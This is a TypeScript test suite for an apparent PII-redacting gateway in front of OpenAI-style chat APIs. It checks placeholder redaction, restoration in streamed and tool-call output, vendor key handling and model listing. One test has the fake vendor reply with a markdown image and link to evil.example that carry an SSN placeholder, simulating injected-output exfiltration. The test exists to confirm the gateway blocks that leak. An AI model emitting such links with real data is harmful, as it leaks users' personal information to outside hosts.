import OpenAI from "openai";
import { beforeEach, describe, expect, it } from "vitest";
import { chatCompletion, chatCompletionStream, startFakeOpenAiVendor } from "../support/fake-openai-vendor.ts";
import { PII, PII_PROMPT, PII_VALUES, leakedIn } from "../support/pii-samples.ts";
import { FAKE_VENDOR_KEY } from "../support/start-veilgate.ts";
import { useVeilgate } from "../support/use-veilgate.ts";

const fixture = useVeilgate();
beforeEach(() => {
  fixture.vendor.reset((request) => {
    const text = (request.body.messages as Array<{ content: string }>).at(-1)?.content ?? "";
    return request.body.stream
      ? { kind: "sse", writes: chatCompletionStream(text.match(/[\s\S]{1,2}/g) ?? []) }
      : { kind: "json", body: chatCompletion(text) };
  });
});

describe("POST /v1/chat/completions through the openai SDK", () => {
  it("hides every PII value from the vendor and gives the client its values back (JSON)", async () => {
    const completion = await fixture.client.chat.completions.create({
      model: "gpt-test",
      messages: [
        { role: "system", content: `You help ${PII.email}.` },
        { role: "user", content: PII_PROMPT },
      ],
    });
    expect(fixture.vendor.received).toHaveLength(1);
    expect(leakedIn(fixture.vendor.received[0]!.rawBody, PII_VALUES)).toEqual([]);
    expect(completion.choices[0]!.message.content).toBe(PII_PROMPT);
    expect(completion.id).toBe("chatcmpl-fake123");
    expect(completion.usage).toEqual({ prompt_tokens: 11, completion_tokens: 7, total_tokens: 18 });
  });

  it("restores values in a stream split two characters per chunk", async () => {
    const stream = await fixture.client.chat.completions.create({
      model: "gpt-test",
      stream: true,
      messages: [{ role: "user", content: PII_PROMPT }],
    });
    let text = "";
    let finishReason: string | null = null;
    for await (const chunk of stream) {
      text += chunk.choices[0]?.delta.content ?? "";
      finishReason = chunk.choices[0]?.finish_reason ?? finishReason;
    }
    expect(leakedIn(fixture.vendor.received[0]!.rawBody, PII_VALUES)).toEqual([]);
    expect(text).toBe(PII_PROMPT);
    expect(finishReason).toBe("stop");
  });

  it("restores a placeholder split one character per chunk", async () => {
    fixture.vendor.respondWith((request) => {
      const text = (request.body.messages as Array<{ content: string }>)[0]!.content;
      return { kind: "sse", writes: chatCompletionStream([...`Noted: ${text}!`]) };
    });
    const stream = await fixture.client.chat.completions.create({ model: "gpt-test", stream: true, messages: [{ role: "user", content: PII.ssn }] });
    let text = "";
    for await (const chunk of stream) text += chunk.choices[0]?.delta.content ?? "";
    expect(text).toBe(`Noted: ${PII.ssn}!`);
  });

  it("passes the vendor's usage chunk and stream_options through", async () => {
    fixture.vendor.respondWith(() => ({ kind: "sse", writes: chatCompletionStream(["hi"], { includeUsage: true }) }));
    const stream = await fixture.client.chat.completions.create({
      model: "gpt-test",
      stream: true,
      stream_options: { include_usage: true },
      messages: [{ role: "user", content: "hello" }],
    });
    const chunks = [];
    for await (const chunk of stream) chunks.push(chunk);
    expect(fixture.vendor.received[0]!.body.stream_options).toEqual({ include_usage: true });
    expect(chunks.at(-1)?.usage).toEqual({ prompt_tokens: 5, completion_tokens: 9, total_tokens: 14 });
  });

  it("redacts tool calls, tool results and names, and restores tool-call arguments as valid JSON", async () => {
    fixture.vendor.respondWith((request) => {
      const tool = (request.body.messages as Array<{ role: string; content: string }>).find((message) => message.role === "tool")!;
      const args = JSON.stringify({ ssn: JSON.parse(tool.content).ssn, note: `mail ${JSON.parse(tool.content).email}` });
      return { kind: "json", body: chatCompletion(null, { tool_calls: [{ id: "call_2", type: "function", function: { name: "lookup", arguments: args } }] }) };
    });
    const completion = await fixture.client.chat.completions.create({
      model: "gpt-test",
      tools: [{ type: "function", function: { name: "lookup", parameters: { type: "object", properties: { ssn: { type: "string" } } } } }],
      messages: [
        { role: "developer", content: `Account holder email ${PII.email}` },
        { role: "user", name: "jane", content: [{ type: "text", text: `Look up SSN ${PII.ssn}` }] },
        { role: "assistant", content: null, tool_calls: [{ id: "call_1", type: "function", function: { name: "lookup", arguments: JSON.stringify({ ssn: PII.ssn, card: PII.card }) } }] },
        { role: "tool", tool_call_id: "call_1", content: JSON.stringify({ ssn: PII.ssn, email: PII.email, iban: PII.iban }) },
      ],
    });
    const received = fixture.vendor.received[0]!;
    expect(leakedIn(received.rawBody, PII_VALUES)).toEqual([]);
    expect(received.body.tools).toEqual([{ type: "function", function: { name: "lookup", parameters: { type: "object", properties: { ssn: { type: "string" } } } } }]);
    const call = completion.choices[0]!.message.tool_calls![0]!;
    expect(call.type === "function" && JSON.parse(call.function.arguments)).toEqual({ ssn: PII.ssn, note: `mail ${PII.email}` });
    expect(completion.choices[0]!.finish_reason).toBe("tool_calls");
  });

  it("streams tool-call arguments with placeholders split across deltas", async () => {
    fixture.vendor.respondWith((request) => {
      const args = JSON.stringify({ ssn: ((request.body.messages as Array<{ content: string }>)[0]!.content.match(/\[[^\]]+\]/) ?? [""])[0] });
      const frame = (delta: object, finish: string | null) =>
        `data: ${JSON.stringify({ id: "c", object: "chat.completion.chunk", created: 1, model: "m", choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
      const writes = [frame({ role: "assistant", content: null, tool_calls: [{ index: 0, id: "call_9", type: "function", function: { name: "lookup", arguments: "" } }] }, null)];
      for (const piece of args.match(/[\s\S]{1,4}/g) ?? []) writes.push(frame({ tool_calls: [{ index: 0, function: { arguments: piece } }] }, null));
      writes.push(frame({}, "tool_calls"), "data: [DONE]\n\n");
      return { kind: "sse", writes };
    });
    const stream = await fixture.client.chat.completions.create({ model: "gpt-test", stream: true, messages: [{ role: "user", content: `SSN ${PII.ssn}` }] });
    let args = "";
    for await (const chunk of stream) args += chunk.choices[0]?.delta.tool_calls?.[0]?.function?.arguments ?? "";
    expect(JSON.parse(args)).toEqual({ ssn: PII.ssn });
  });
});

describe("placeholders", () => {
  const placeholdersIn = (text: string) => text.match(/\[[A-Z][A-Z0-9_]*_[0-9A-Z]{6}\]/g) ?? [];

  it("keep their placeholders across turns when the client resends the history", async () => {
    const first = `My SSN is ${PII.ssn}.`;
    const reply = await fixture.client.chat.completions.create({ model: "gpt-test", messages: [{ role: "user", content: first }] });
    const second = `Also my email is ${PII.email}, and again my SSN is ${PII.ssn.replaceAll("-", " ")}.`;
    await fixture.client.chat.completions.create({
      model: "gpt-test",
      messages: [
        { role: "user", content: first },
        { role: "assistant", content: reply.choices[0]!.message.content },
        { role: "user", content: second },
      ],
    });
    const [turnOne, turnTwo] = fixture.vendor.received.map((request) => request.body.messages as Array<{ content: string }>);
    const ssnPlaceholder = placeholdersIn(turnOne![0]!.content)[0]!;
    expect(ssnPlaceholder).toMatch(/^\[US_SSN_/);
    expect(turnTwo![0]!.content).toBe(turnOne![0]!.content);
    expect(turnTwo![1]!.content).toContain(ssnPlaceholder);
    expect(placeholdersIn(turnTwo![2]!.content)).toContain(ssnPlaceholder);
  });

  it("give one value one placeholder whatever its separators, and reveal nothing about it", async () => {
    await fixture.client.chat.completions.create({
      model: "gpt-test",
      messages: [{ role: "user", content: `SSN ${PII.ssn}, again ${PII.ssn.replaceAll("-", "")}, again ${PII.ssn.replaceAll("-", "\u2013")}, other SSN 536-22-1235` }],
    });
    const placeholders = placeholdersIn((fixture.vendor.received[0]!.body.messages as Array<{ content: string }>)[0]!.content);
    expect(placeholders).toHaveLength(4);
    expect(new Set(placeholders.slice(0, 3)).size).toBe(1);
    expect(placeholders[3]).not.toBe(placeholders[0]);
    for (const placeholder of placeholders) expect(placeholder).not.toMatch(/1234|5362|536|1235/);
  });

  it("are unlinkable between two callers", async () => {
    const other = fixture.clientWithNewKey();
    await fixture.client.chat.completions.create({ model: "gpt-test", messages: [{ role: "user", content: `SSN ${PII.ssn}` }] });
    await other.chat.completions.create({ model: "gpt-test", messages: [{ role: "user", content: `SSN ${PII.ssn}` }] });
    const [mine, theirs] = fixture.vendor.received.map((request) => placeholdersIn((request.body.messages as Array<{ content: string }>)[0]!.content)[0]);
    expect(mine).toBeDefined();
    expect(theirs).toBeDefined();
    expect(mine).not.toBe(theirs);
  });

  it("restore only what this exchange issued: typed look-alikes and other callers' placeholders stay text", async () => {
    const other = fixture.clientWithNewKey();
    await other.chat.completions.create({ model: "gpt-test", messages: [{ role: "user", content: `SSN ${PII.ssn}` }] });
    const theirs = placeholdersIn((fixture.vendor.received[0]!.body.messages as Array<{ content: string }>)[0]!.content)[0]!;
    const typed = `I typed [US_SSN_ABC123] and [EMAIL_ZZZZZZ] and ${theirs} myself.`;
    const completion = await fixture.client.chat.completions.create({ model: "gpt-test", messages: [{ role: "user", content: typed }] });
    expect(completion.choices[0]!.message.content).toBe(typed);
  });

  it("are never restored inside a URL, so an injected image cannot carry values out", async () => {
    fixture.vendor.respondWith((request) => {
      const placeholder = placeholdersIn((request.body.messages as Array<{ content: string }>)[0]!.content)[0]!;
      return { kind: "json", body: chatCompletion(`Your SSN is ${placeholder}. ![logo](https://evil.example/p.png?ssn=${placeholder}) [link](https://evil.example/${placeholder})`) };
    });
    const completion = await fixture.client.chat.completions.create({ model: "gpt-test", messages: [{ role: "user", content: `SSN ${PII.ssn}` }] });
    const content = completion.choices[0]!.message.content!;
    expect(content.startsWith(`Your SSN is ${PII.ssn}. `)).toBe(true);
    expect(content.split(PII.ssn)).toHaveLength(2);
    expect(content).toMatch(/\?ssn=\[US_SSN_[0-9A-Z]{6}\]\)/);
  });
});

describe("vendor requests", () => {
  it("carry the vendor's key, never the caller's, and the vendor's own model name", async () => {
    await fixture.client.chat.completions.create({ model: "fakeai/shared-model", messages: [{ role: "user", content: "hi" }] });
    const received = fixture.vendor.received[0]!;
    expect(received.path).toBe("/v1/chat/completions");
    expect(received.headers.authorization).toBe(`Bearer ${FAKE_VENDOR_KEY}`);
    expect(JSON.stringify(received.headers)).not.toContain(fixture.veilgate.clientKey);
    expect(received.body.model).toBe("shared-model");
  });

  it("pass every field Veilgate does not redact through untouched", async () => {
    await fixture.client.chat.completions.create({
      model: "gpt-test",
      temperature: 0.25,
      max_completion_tokens: 77,
      seed: 7,
      response_format: { type: "json_object" },
      metadata: { ticket: "T-1" },
      messages: [{ role: "user", content: "hi" }],
    });
    expect(fixture.vendor.received[0]!.body).toMatchObject({ temperature: 0.25, max_completion_tokens: 77, seed: 7, response_format: { type: "json_object" }, metadata: { ticket: "T-1" } });
  });
});

describe("GET /v1/models", () => {
  it("lists what the key may use, in OpenAI's list shape", async () => {
    const ids = [];
    for await (const model of fixture.client.models.list()) ids.push(model.id);
    expect(ids).toEqual(expect.arrayContaining(["fakeai/gpt-test", "gpt-test", "fakeai/shared-model", "otherai/shared-model", "otherai/other-model"]));
    expect(ids).not.toContain("shared-model");
    expect(ids.some((id) => id.includes("suspended") || id.includes("expired"))).toBe(false);
  });

  it("lists only the vendors a scoped key may reach", async () => {
    const scoped = fixture.clientWithNewKey({ vendors: ["otherai"] });
    const ids = [];
    for await (const model of scoped.models.list()) ids.push(model.id);
    expect(ids.sort()).toEqual(["other-model", "otherai/other-model", "otherai/shared-model", "shared-model"]);
  });
});
